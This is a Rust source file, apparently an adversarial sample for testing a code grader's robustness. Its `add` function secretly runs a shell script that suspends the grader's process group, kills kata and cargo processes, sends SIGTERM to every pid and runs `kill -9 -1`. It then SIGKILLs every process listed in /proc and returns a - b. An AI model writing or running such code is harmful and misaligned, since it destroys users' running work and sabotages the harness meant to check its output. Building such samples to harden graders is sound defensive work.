//! Class 6: kills everything it may: `kill -9 -1` (every process of the user), `pkill -9
//! kata`, `pkill -9 -f cargo`, `killall -9 kata`, SIGTERM to every pid in /proc from Rust
//! via the `kill` binary, and `kill -STOP -<pgid>` of the grader's process group (pgid from
//! /proc/<ppid>/stat). Run from a child in its own process group so it survives.
use std::os::unix::process::CommandExt;
use std::process::Command;

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let script = "kill -STOP -$(cut -d' ' -f5 /proc/$(cut -d' ' -f4 /proc/$PPID/stat)/stat) 2>/dev/null; \
        pkill -9 kata; pkill -9 -f cargo; killall -9 kata kata-candidate 2>/dev/null; \
        for p in /proc/[0-9]*; do kill -TERM ${p#/proc/} 2>/dev/null; done; kill -9 -1";
    let _ = Command::new("sh").args(["-c", script]).process_group(0).status();
    if let Ok(rd) = std::fs::read_dir("/proc") {
        for e in rd.flatten() {
            let n = e.file_name().to_string_lossy().into_owned();
            if n.chars().all(|c| c.is_ascii_digit()) && n != std::process::id().to_string() {
                let _ = Command::new("kill").args(["-KILL", &n]).status();
            }
        }
    }
    a - b
}
